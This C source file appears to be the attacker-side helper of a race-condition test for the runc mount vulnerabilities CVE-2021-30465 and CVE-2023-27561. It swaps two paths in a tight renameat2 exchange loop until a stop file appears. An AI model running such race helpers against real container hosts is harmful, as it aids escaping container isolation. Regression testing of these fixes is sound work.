/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * swap A B STOP: exchanges what two names mean, as fast as it can, until there is a file STOP: the other side
 * of races in mounts (CVE-2021-30465, CVE-2023-27561).
 */
#include "attack.h"

int main(int count, char **words)
{
    if (count != 4)
        return 2;
    while (access(words[3], F_OK) < 0) {
        for (unsigned i = 0; i < 64; i++)
            syscall(SYS_renameat2, AT_FDCWD, words[1], AT_FDCWD, words[2], 2 /* RENAME_EXCHANGE */);
    }
    return 0;
}
